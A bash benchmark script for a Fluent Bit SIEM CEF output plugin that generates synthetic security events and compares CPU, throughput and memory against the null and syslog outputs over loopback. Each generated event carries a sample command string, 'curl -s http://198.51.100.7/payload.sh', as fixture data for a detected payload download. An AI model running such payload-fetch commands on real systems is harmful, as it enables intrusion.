#!/usr/bin/env bash
# make bench-fluent-bit: the plugin's cost measured as a user would, in a real Fluent Bit given by
# FLUENT_BIT. EVENTS (300000) KCS process events with every runtime key go through `tail` (json parser)
# into each of three outputs: `null`, Fluent Bit's C `syslog` output (TCP, RFC 5424 header and the
# message field) and siem_cef (TCP), each to a loopback receiver chosen by RECEIVER:
#   count    (the default) scripts/bench-receiver, which only counts the lines that arrive;
#   rsyslog  Debian's rsyslogd (imtcp into a file), the SIEM a user would put there.
# ROUNDS (3) rounds alternate the outputs, so a slow spell of a shared machine hits all three. An
# output's CPU per event is the whole process's CPU (user+sys) minus the null run's of the same round,
# over EVENTS; the table gives its median, the ratio to the syslog output, events/s (EVENTS over the
# wall time, start-up and shutdown included) and the peak RSS. The syslog output sends each message
# with its own write, so its CPU depends on the receiver: waking an idle receiver per message costs it
# system time that a busy one spares it; run both receivers to see the range.
# MEM_BUF_LIMIT, when set (say 16MB), is the tail input's Mem_Buf_Limit: without it, how many chunks
# Fluent Bit holds at once, and so the peak RSS, follows how fast each output drains them.
# Fluent Bit is built outside the repository; without FLUENT_BIT this says so and does nothing.
set -euo pipefail
cd "$(dirname "$0")/.."

if [ -z "${FLUENT_BIT:-}" ]; then
	echo "bench-fluent-bit: skipped; set FLUENT_BIT to a fluent-bit binary (5.1.1, built from its source) to run it"
	exit 0
fi
if [ ! -x "$FLUENT_BIT" ]; then
	echo "bench-fluent-bit: FLUENT_BIT=$FLUENT_BIT is not an executable file" >&2
	exit 1
fi
# GNU time: the CPU, wall time and peak RSS of the whole process, children's threads included.
if [ ! -x /usr/bin/time ]; then
	echo "bench-fluent-bit: needs GNU time: apt-get install -y time" >&2
	exit 1
fi
receiver_kind=${RECEIVER:-count}
case $receiver_kind in
count) ;;
rsyslog)
	if ! command -v rsyslogd >/dev/null; then
		echo "bench-fluent-bit: RECEIVER=rsyslog needs rsyslogd: apt-get install -y rsyslog" >&2
		exit 1
	fi
	;;
*)
	echo "bench-fluent-bit: RECEIVER=$receiver_kind: want count or rsyslog" >&2
	exit 1
	;;
esac

events=${EVENTS:-300000}
rounds=${ROUNDS:-3}
outputs=(null syslog siem_cef)
so=$PWD/build/out_siem_cef.so
receiver_bin=$PWD/build/bench-receiver
"${MAKE:-make}" -s build
go build -o "$receiver_bin" ./scripts/bench-receiver

work=$(mktemp -d)
receiver=
cleanup() {
	if [ -n "$receiver" ]; then kill "$receiver" 2>/dev/null || true; fi
	rm -rf "$work"
}
trap cleanup EXIT

# The event of internal/fixture.ProcessEvent, with its PIDs, source port and time varied per line.
awk -v n="$events" 'BEGIN {
	for (i = 0; i < n; i++) {
		s = i % 86400
		printf "{\"time\": \"2026-02-18T%02d:%02d:%02d.%03dZ\", \"event_id\": \"PM-001\", \"event_name\": \"Process management\", \"status\": \"Audit\", \"agent_group\": \"prod-agents\", \"source\": \"kcs-agent-7xq2k\", \"cluster\": \"prod-eu-1\", \"node\": \"worker-3\", \"node_ip\": \"10.20.0.13\", \"namespace\": \"shop\", \"pod\": \"web-7d9c6b8f5-x2x4q\", \"container\": \"alpine\", \"container_id\": \"0ce05246346b6687cb754cf716c57f20f226e159397e8e5985e55b448cb92e3f\", \"image\": \"docker.io/library/alpine:3.20\", \"image_hash\": \"sha256:6f0e4c5a1b2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f\", \"pid\": %d, \"ppid\": %d, \"new_pid\": %d, \"process\": \"curl\", \"euid\": 1000, \"egid\": 1000, \"command\": \"curl -s http://198.51.100.7/payload.sh\", \"operation\": \"exec\", \"src_ip\": \"10.42.3.17\", \"src_port\": %d, \"dst_ip\": \"198.51.100.7\", \"dst_port\": 80, \"path\": \"/usr/bin/curl\", \"old_path\": \"/tmp/curl\", \"file_mode\": \"0755\", \"direction\": 1, \"message\": \"Process curl started in container alpine\"}\n",
			int(s / 3600), int(s / 60) % 60, s % 60, i % 1000, 2001 + i, 1999 + i % 97, 2002 + i, 32768 + i % 28000
	}
}' >"$work/events.jsonl"

cat >"$work/parsers.conf" <<'EOF'
[PARSER]
    Name        json
    Format      json
    Time_Key    time
    Time_Format %Y-%m-%dT%H:%M:%S.%LZ
EOF

# Starts the receiver; sets $receiver (its PID) and $port.
start_receiver() {
	rm -f "$work/port" "$work/received.log"
	if [ "$receiver_kind" = rsyslog ]; then
		# Port 0: rsyslogd binds a free port and writes it to listenPortFileName.
		cat >"$work/rsyslog.conf" <<EOF
global(workDirectory="$work")
module(load="imtcp")
template(name="raw" type="string" string="%rawmsg%\n")
input(type="imtcp" address="127.0.0.1" port="0" listenPortFileName="$work/port" ruleset="bench")
ruleset(name="bench") { action(type="omfile" file="$work/received.log" template="raw") }
EOF
		rsyslogd -n -f "$work/rsyslog.conf" -i "$work/rsyslogd.pid" >"$work/rsyslogd.out" 2>&1 &
	else
		"$receiver_bin" -count "$events" >"$work/receiver.out" &
	fi
	receiver=$!
	local _
	for _ in $(seq 100); do
		if [ "$receiver_kind" = rsyslog ]; then
			port=$(cat "$work/port" 2>/dev/null || true)
		else
			port=$(head -n 1 "$work/receiver.out")
		fi
		if [ -n "$port" ]; then return; fi
		sleep 0.1
	done
	echo "bench-fluent-bit: the $receiver_kind receiver did not start" >&2
	exit 1
}

# received prints how many messages the receiver has: the lines of rsyslog's file, or the count
# bench-receiver printed when it stopped.
received() {
	if [ "$receiver_kind" = rsyslog ]; then
		if [ -f "$work/received.log" ]; then wc -l <"$work/received.log"; else echo 0; fi
	else
		sed -n 2p "$work/receiver.out"
	fi
}

# Waits up to 30 s for the receiver to have EVENTS messages (bench-receiver then stops on its own),
# stops it, and prints how many messages it received.
stop_receiver() {
	local _
	for _ in $(seq 300); do
		if [ "$receiver_kind" = rsyslog ]; then
			[ "$(received)" -ge "$events" ] && break
		else
			kill -0 "$receiver" 2>/dev/null || break
		fi
		sleep 0.1
	done
	kill "$receiver" 2>/dev/null || true
	wait "$receiver" || true
	receiver=
	received
}

# Runs Fluent Bit once with output $2 in round $1; appends "round output cpu_seconds wall_seconds
# peak_rss_kib received" to $results.
run() {
	local round=$1 output=$2 plugin=() received=- line
	case $output in
	null)
		printf '[OUTPUT]\n    Name  null\n    Match *\n' >"$work/output.conf"
		;;
	syslog)
		start_receiver
		printf '[OUTPUT]\n    Name               syslog\n    Match              *\n    Host               127.0.0.1\n    Port               %s\n    Mode               tcp\n    Syslog_Format      rfc5424\n    Syslog_Message_Key message\n' \
			"$port" >"$work/output.conf"
		;;
	siem_cef)
		start_receiver
		printf '[OUTPUT]\n    Name    siem_cef\n    Match   *\n    Address 127.0.0.1:%s\n    Workers 1\n' "$port" >"$work/output.conf"
		plugin=(-e "$so")
		;;
	esac
	cat >"$work/fluent-bit.conf" <<EOF
[SERVICE]
    Flush        1
    Grace        60
    Log_Level    warn
    Parsers_File $work/parsers.conf

[INPUT]
    Name           tail
    Path           $work/events.jsonl
    Parser         json
    Tag            bench
    Read_from_Head On
    Exit_On_Eof    On
${MEM_BUF_LIMIT:+    Mem_Buf_Limit  $MEM_BUF_LIMIT}

@INCLUDE $work/output.conf
EOF
	if ! /usr/bin/time -f '%U %S %e %M' -o "$work/time" "$FLUENT_BIT" "${plugin[@]}" -c "$work/fluent-bit.conf" >"$work/fluent-bit.log" 2>&1; then
		echo "bench-fluent-bit: fluent-bit with the $output output failed:" >&2
		tail -n 20 "$work/fluent-bit.log" >&2
		exit 1
	fi
	if [ "$output" != null ]; then received=$(stop_receiver); fi
	line=$(awk -v r="$received" '{ print $1 + $2, $3, $4, r }' "$work/time")
	echo "round $round, $output: cpu_s wall_s peak_rss_kib received = $line" >&2
	echo "$round $output $line" >>"$results"
}

results=$work/results
for ((round = 1; round <= rounds; round++)); do
	for output in "${outputs[@]}"; do
		run "$round" "$output"
	done
done

model=$(awk -F: '/model name/ { gsub(/^ +/, "", $2); print $2; exit }' /proc/cpuinfo)
echo
echo "machine: ${model:-unknown CPU}, $(nproc) cores; $("$FLUENT_BIT" --version | head -n 1); $(go version | awk '{ print $3 }'); $(date -u +%Y-%m-%d)"
echo "$events runtime events with every key, tail (json parser${MEM_BUF_LIMIT:+, Mem_Buf_Limit $MEM_BUF_LIMIT}) -> output over loopback TCP -> $receiver_kind receiver, $rounds rounds alternated"
echo
awk -v n="$events" -v order="${outputs[*]}" '
function median(list,   a, k, i, j, t) {
	k = split(list, a, " ")
	for (i = 2; i <= k; i++) for (j = i; j > 1 && a[j - 1] > a[j]; j--) { t = a[j]; a[j] = a[j - 1]; a[j - 1] = t }
	return k % 2 ? a[(k + 1) / 2] : (a[k / 2] + a[k / 2 + 1]) / 2
}
{
	round = $1; out = $2
	cpu[round, out] = $3; wall[out] = wall[out] " " $4
	if ($5 / 1024 > rss[out]) rss[out] = $5 / 1024
	if (!(out in got) || $6 < got[out]) got[out] = $6
	rounds[round] = 1
}
END {
	for (round in rounds) for (out in rss) {
		per[out] = per[out] " " 1e6 * (cpu[round, out] - cpu[round, "null"]) / n
		whole[out] = whole[out] " " 1e6 * cpu[round, out] / n
	}
	base = median(per["syslog"])
	printf "| %-8s | %22s | %5s | %23s | %8s | %12s | %8s |\n", "output", "output CPU/event (µs)", "ratio", "process CPU/event (µs)", "events/s", "peak RSS MiB", "received"
	printf "|%s|%s|%s|%s|%s|%s|%s|\n", "----------", "----------------------:", "------:", "-----------------------:", "---------:", "-------------:", "---------:"
	k = split(order, names, " ")
	for (i = 1; i <= k; i++) {
		out = names[i]; o = median(per[out])
		printf "| %-8s | %21.2f | %5s | %22.2f | %8.0f | %12.1f | %8s |\n", out, o,
			out == "null" ? "-" : sprintf("%.2fx", o / base), median(whole[out]), n / median(wall[out]), rss[out], got[out]
	}
	for (i = 1; i <= k; i++) {
		out = names[i]
		if (got[out] != "-" && got[out] < n) printf "warning: the %s output delivered %d of %d events in some round\n", out, got[out], n
	}
}' "$results"
